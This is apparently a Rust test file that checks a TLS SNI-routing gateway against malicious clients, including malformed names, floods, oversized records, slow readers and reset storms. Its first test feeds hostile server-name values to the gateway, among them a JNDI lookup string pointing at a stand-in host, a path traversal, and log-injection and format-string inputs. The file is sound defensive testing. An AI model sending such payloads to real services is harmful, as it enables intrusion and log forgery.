//! Clients and endpoints that mean harm, or might as well: whatever they do, others are served, what the gateway holds
//! stays bounded, and what they sent turns up nowhere.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a panic is the report")]

#[allow(dead_code, reason = "other tests use the other parts")]
#[path = "support/client_hello.rs"]
mod hello;
#[path = "support/program.rs"]
mod program;
mod support;

use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::sync::atomic::Ordering::Relaxed;

use eastgate_loadtest::ca::Ca;
use eastgate_loadtest::origin::{Origin, RawOrigin};
use hello::{HelloBuilder, record, sni};
use program::Eastgate;
use serde_json::Value;
use support::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

const LISTENER: &str = "0.0.0.0_15443";

/// A gateway in front of a pod, as its own process.
struct Scene {
    gateway: Eastgate,
    address: SocketAddr,
    directory: tempfile::TempDir,
}

impl Scene {
    async fn start(pod: SocketAddr) -> Self {
        let directory = tempfile::tempdir().unwrap();
        std::fs::create_dir(directory.path().join("mesh")).unwrap();
        for (name, document) in mesh(&[pod]) {
            std::fs::write(directory.path().join("mesh").join(name), document.to_string()).unwrap();
        }
        let path = |name: &str| directory.path().join(name).display().to_string();
        let (mesh, log) = (path("mesh"), path("access.log"));
        let arguments = ["--mesh-dir", &mesh, "--listen", "15443=127.0.0.1:0", "--access-log", &log];
        let settings = [("EASTGATE_LOG_LEVEL", "info".to_owned())];
        let gateway = Eastgate::start(&arguments, &settings).await;
        let address = gateway.listening(LISTENER).await;
        Self { gateway, address, directory }
    }

    async fn echoing() -> (Self, Origin) {
        let pod = RawOrigin::Echo.start(([127, 0, 0, 1], 0).into()).await.unwrap();
        (Self::start(pod.address()).await, pod)
    }

    /// Sends this, and gives what comes back until the end; a reset is an end too.
    async fn told(&self, bytes: &[u8]) -> Vec<u8> {
        let mut stream = TcpStream::connect(self.address).await.unwrap();
        let mut told = Vec::new();
        let telling = async {
            let _ = stream.write_all(bytes).await;
            let _ = stream.shutdown().await;
            let _ = stream.read_to_end(&mut told).await;
        };
        tokio::time::timeout(PATIENCE, telling).await.expect("an end");
        told
    }

    /// An honest client is served.
    async fn serves(&self) {
        say(&mut tunnel(self.address).await.unwrap()).await;
    }

    /// Waits until nobody is connected.
    async fn is_left(&self) {
        let none = format!("eastgate_downstream_connections_active{{listener=\"{LISTENER}\"}} 0\n");
        self.gateway.until("/stats/prometheus", |text| text.contains(&none)).await;
    }

    /// The access log, once it has so many records.
    async fn records(&self, count: usize) -> String {
        let path = self.directory.path().join("access.log");
        let waiting = async {
            loop {
                let text = std::fs::read_to_string(&path).unwrap();
                if text.lines().count() >= count && text.ends_with('\n') {
                    return text;
                }
                tokio::task::yield_now().await;
            }
        };
        tokio::time::timeout(PATIENCE, waiting).await.expect("the records in time")
    }

    /// What its descriptors are, but for pipes: a thread keeps empty ones for the next that moves bytes in bulk
    /// (`relay.max_pipes` limits them).
    fn files(&self) -> Vec<String> {
        let descriptors = std::fs::read_dir(format!("/proc/{}/fd", self.gateway.pid())).unwrap();
        let target = |entry: std::io::Result<std::fs::DirEntry>| std::fs::read_link(entry.ok()?.path()).ok();
        let named = descriptors.filter_map(target).map(|target| target.display().to_string());
        named.filter(|target| !target.starts_with("pipe:")).collect()
    }

    /// Waits until no more files are open than so many: the admin port's connection of a moment ago may still be one.
    async fn has_no_more_files_than(&self, files: usize) {
        let waiting = async {
            while self.files().len() > files {
                tokio::task::yield_now().await;
            }
        };
        let left = tokio::time::timeout(PATIENCE, waiting).await;
        assert!(left.is_ok(), "more than {files} descriptors are left: {:?}", self.files());
    }

    /// Anonymous memory of the process, in KiB.
    fn kib(&self) -> u64 {
        let rollup = std::fs::read_to_string(format!("/proc/{}/smaps_rollup", self.gateway.pid())).unwrap();
        let line = rollup.lines().find(|line| line.starts_with("Anonymous:")).unwrap();
        line.split_whitespace().nth(1).unwrap().parse().unwrap()
    }

    /// The names and labels of all metrics.
    async fn metrics(&self) -> BTreeSet<String> {
        let text = self.gateway.admin("/stats/prometheus").await;
        let lines = text.lines().filter(|line| !line.starts_with('#'));
        lines.map(|line| line.rsplit_once(' ').unwrap().0.to_owned()).collect()
    }
}

fn is_alert(told: &[u8]) -> bool {
    told.len() == 7 && told.starts_with(&[21, 3, 3, 0, 2, 2])
}

#[tokio::test]
async fn names_that_are_no_names_are_refused_and_stand_in_no_log() {
    let (scene, pod) = Scene::echoing().await;
    let good = GLOBAL.as_bytes();
    let names: Vec<Vec<u8>> = vec![
        b"outbound_.8000_._.httpbin.bar.global\0".to_vec(),
        b"outbound_.8000_._.httpbin.bar.global\0.evil.example".to_vec(),
        b"../../etc/passwd".to_vec(),
        b"../outbound_.8000_._.httpbin.bar.global".to_vec(),
        "öutbound_.8000_._.httpbin.bar.global".as_bytes().to_vec(),
        "outbound_.8000_._.httpbin.bar.glоbal".as_bytes().to_vec(),
        b"\xff\xfe\xfd.global".to_vec(),
        [&[b'a'; 255][..], b".global"].concat(),
        [b'a'; 255].to_vec(),
        vec![b'.'; 255],
        vec![b'a'; 65_000],
        b"*.global".to_vec(),
        b"a b.global".to_vec(),
        b"a.global\n{\"flag\":\"-\",\"forged\":true}".to_vec(),
        b"\x1b[31mred.global".to_vec(),
        b"${jndi:ldap://evil.example/a}".to_vec(),
        b"%s%n%x.global".to_vec(),
        b"outbound_.8000_._.httpbin.bar.global:8000".to_vec(),
        b"127.0.0.1".to_vec(),
        b"[::1]".to_vec(),
        Vec::new(),
    ];
    for name in &names {
        let told = scene.told(&HelloBuilder::new(name).first(16, hello::alpn(&[b"istio"])).bytes()).await;
        assert!(is_alert(&told), "{}: {told:?}", String::from_utf8_lossy(name));
    }
    // Two names of which one is good, and two extensions, are no better.
    let twice = HelloBuilder::new(good).first(0, sni("evil.global")).bytes();
    assert!(is_alert(&scene.told(&twice).await));
    assert_eq!(pod.counters().connections.load(Relaxed), 0, "a pod was reached");
    let records = scene.records(names.len() + 1).await;
    assert_eq!(records.lines().count(), names.len() + 1, "a name has made a line");
    for line in records.lines() {
        let record: Value = serde_json::from_str(line).unwrap();
        assert!(record["forged"].is_null() && record["flag"] != "-", "{line}");
        assert!(line.is_ascii() && line.len() < 1_500, "{line}");
    }
    scene.serves().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_of_unknown_names_grows_neither_metrics_nor_log_nor_memory() {
    const NAMES: usize = 4_000;
    let (scene, _pod) = Scene::echoing().await;
    let flood = async |from: usize| {
        let mut clients = JoinSet::new();
        for number in from..from + NAMES {
            let address = scene.address;
            clients.spawn(async move {
                let name = format!("outbound_.8000_._.unknown-{number}.bar.global");
                let hello = HelloBuilder::new(name).first(16, hello::alpn(&[b"istio"])).bytes();
                let mut stream = TcpStream::connect(address).await.unwrap();
                stream.write_all(&hello).await.unwrap();
                let mut told = Vec::new();
                stream.read_to_end(&mut told).await.unwrap();
                assert!(is_alert(&told), "{told:?}");
            });
            if clients.len() >= 64 {
                clients.join_next().await.unwrap().unwrap();
            }
        }
        while let Some(done) = clients.join_next().await {
            done.unwrap();
        }
        scene.is_left().await;
    };
    // Once, because the first refusal makes the metric that counts it.
    flood(0).await;
    let (metrics, lines, kib) = (scene.metrics().await, scene.gateway.log().lines().count(), scene.kib());
    flood(NAMES).await;
    assert_eq!(scene.metrics().await, metrics);
    let more = scene.gateway.log().lines().count() - lines;
    assert!(more < 20, "{more} lines for {NAMES} names");
    let grown = scene.kib() as f64 / kib as f64;
    println!("{NAMES} unknown names: {more} log lines, {} metrics, memory times {grown:.3}", metrics.len());
    assert!(grown < 1.2, "memory has grown to {grown:.2} of what it was");
    assert!(metrics.iter().all(|line| !line.contains("unknown-")));
    scene.serves().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn noise_and_giants_are_refused_before_they_are_held() {
    let (scene, pod) = Scene::echoing().await;
    scene.serves().await;
    let (served, kib) = (pod.counters().connections.load(Relaxed), scene.kib());
    let giant = |claimed: usize| {
        let message = [&[1][..], &(claimed as u32).to_be_bytes()[1..], &vec![3; 16_000]].concat();
        record(&message)
    };
    let mut cases = vec![
        ("a message of 2^24-1 bytes", giant((1 << 24) - 1)),
        ("a message over the limit", giant(70_000)),
        ("a record of 65,535 bytes", [&[22, 3, 1, 255, 255][..], &[1; 1_000]].concat()),
        ("an empty record and no more", vec![22, 3, 1, 0, 0]),
        ("ten thousand empty records", [22, 3, 1, 0, 0].repeat(10_000)),
        (
            "application data",
            record(b"x").into_iter().map(|byte| if byte == 22 { 23 } else { byte }).collect(),
        ),
        ("an alert", vec![21, 3, 3, 0, 2, 1, 0]),
        ("an SSL 2 hello", [&[0x80, 46, 1, 0, 2][..], &[0; 43]].concat()),
        ("zeros", vec![0; 100_000]),
    ];
    let mut random = fastrand::Rng::with_seed(8);
    for _ in 0..300 {
        let mut noise: Vec<u8> = (0..random.usize(1..4_000)).map(|_| random.u8(..)).collect();
        if random.bool() {
            noise.splice(0..0, [22, 3, 1]);
        }
        cases.push(("noise", noise));
    }
    for (what, bytes) in &cases {
        let told = scene.told(bytes).await;
        assert!(told.is_empty() || is_alert(&told), "{what}: {told:?}");
    }
    scene.is_left().await;
    assert_eq!(pod.counters().connections.load(Relaxed), served, "a pod was reached");
    let grown = scene.kib() as f64 / kib as f64;
    assert!(grown < 1.3, "memory has grown to {grown:.2} of what it was");
    scene.serves().await;
}

/// Fills all buffers on the way, and gives how much went.
async fn fill(stream: &TcpStream) -> usize {
    let (piece, mut written) = (vec![7; 64 * 1024], 0);
    let quiet = std::time::Duration::from_millis(500);
    while let Ok(ready) = tokio::time::timeout(quiet, stream.writable()).await {
        ready.unwrap();
        written += stream.try_write(&piece).unwrap_or(0);
    }
    written
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn who_never_reads_costs_no_memory_and_delays_nobody() {
    const CLIENTS: usize = 20;
    let large = RawOrigin::Send(1 << 30).start(([127, 0, 0, 1], 0).into()).await.unwrap();
    let closed = RawOrigin::NeverRead.start(([127, 0, 0, 1], 0).into()).await.unwrap();
    for (what, pod) in [("clients that never read", &large), ("endpoints with a window of zero", &closed)] {
        let scene = Scene::start(pod.address()).await;
        let other = RawOrigin::Echo.start(([127, 0, 0, 1], 0).into()).await.unwrap();
        let mut list = named_slices("echo", &[other.address()], "istio");
        list["items"].as_array_mut().unwrap().push(named_service("echo"));
        std::fs::write(scene.directory.path().join("mesh/echo.json"), list.to_string()).unwrap();
        scene.gateway.until("/clusters", |text| text.contains(".echo.")).await;
        let (kib, files) = (scene.kib(), scene.files().len());
        let mut clients = Vec::new();
        for _ in 0..CLIENTS {
            let mut stream = TcpStream::connect(scene.address).await.unwrap();
            stream.write_all(&client_hello(GLOBAL, &["istio"])).await.unwrap();
            clients.push(stream);
        }
        let mut written = 0;
        if what.starts_with("endpoints") {
            for stream in &clients {
                written += fill(stream).await;
            }
        }
        // Beside them somebody else is served.
        let mut honest = TcpStream::connect(scene.address).await.unwrap();
        let hello = client_hello("outbound_.8000_._.echo.bar.global", &["istio"]);
        honest.write_all(&hello).await.unwrap();
        honest.read_exact(&mut vec![0; hello.len()]).await.unwrap();
        say(&mut honest).await;
        let grown = scene.kib().saturating_sub(kib);
        println!("{CLIENTS} {what}: {grown} KiB, {} MiB under way", written >> 20);
        // What one direction of a tunnel may hold outside of the kernel is less than a buffer of 64 KiB.
        assert!(grown < (CLIENTS as u64 + 1) * 160, "{what} cost {grown} KiB");
        for stream in &clients {
            stream.set_zero_linger().unwrap();
        }
        drop((clients, honest));
        scene.is_left().await;
        scene.has_no_more_files_than(files).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_storm_of_resets_leaves_nothing_behind() {
    const CLIENTS: usize = 3_000;
    let (scene, _pod) = Scene::echoing().await;
    scene.serves().await;
    scene.is_left().await;
    let (files, metrics) = (scene.files().len(), scene.metrics().await);
    let bytes = [client_hello(GLOBAL, &["istio"]), vec![7; 3_000]].concat();
    let mut clients = JoinSet::new();
    for number in 0..CLIENTS {
        let (address, bytes) = (scene.address, bytes.clone());
        clients.spawn(async move {
            let Ok(mut stream) = TcpStream::connect(address).await else { return };
            stream.set_zero_linger().unwrap();
            let _ = stream.write_all(&bytes[..number % bytes.len()]).await;
            // Some wait until they are answered.
            if number % 3 == 0 && number % bytes.len() > 1_500 {
                let _ = stream.read(&mut [0; 100]).await;
            }
        });
        if clients.len() >= 128 {
            clients.join_next().await.unwrap().unwrap();
        }
    }
    while clients.join_next().await.is_some() {}
    scene.is_left().await;
    scene.has_no_more_files_than(files).await;
    let new: Vec<_> = scene.metrics().await.difference(&metrics).cloned().collect();
    assert!(new.len() < 30, "{new:#?}");
    scene.serves().await;
}

/// With real TLS, so that the handshake of somebody else is seen to be undisturbed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn silent_and_half_open_clients_keep_nobody_out() {
    let ca = Ca::new().unwrap();
    let pods = pods(&ca, 1).await;
    let scene = Scene::start(pods[0].address()).await;
    let hello = client_hello(GLOBAL, &["istio"]);
    let mut open = Vec::new();
    for number in 0..600 {
        let mut stream = TcpStream::connect(scene.address).await.unwrap();
        stream.write_all(&hello[..number % hello.len()]).await.unwrap();
        if number % 2 == 0 {
            stream.shutdown().await.unwrap();
        }
        open.push(stream);
    }
    let client = mesh_client(&ca);
    for _ in 0..50 {
        assert_eq!(client.get(scene.address, GLOBAL, "/hostname").await.unwrap().status, 200);
    }
    // Those that have finished in the middle of their hello are told at once; the others are waited for.
    let half = format!("eastgate_downstream_connections_active{{listener=\"{LISTENER}\"}} ");
    let at_most = |text: &str, most: f64| {
        let line = text.lines().find_map(|line| line.strip_prefix(&half)).unwrap();
        line.parse::<f64>().unwrap() <= most
    };
    scene.gateway.until("/stats/prometheus", |text| at_most(text, 300.0)).await;
    drop(open);
    scene.is_left().await;
}
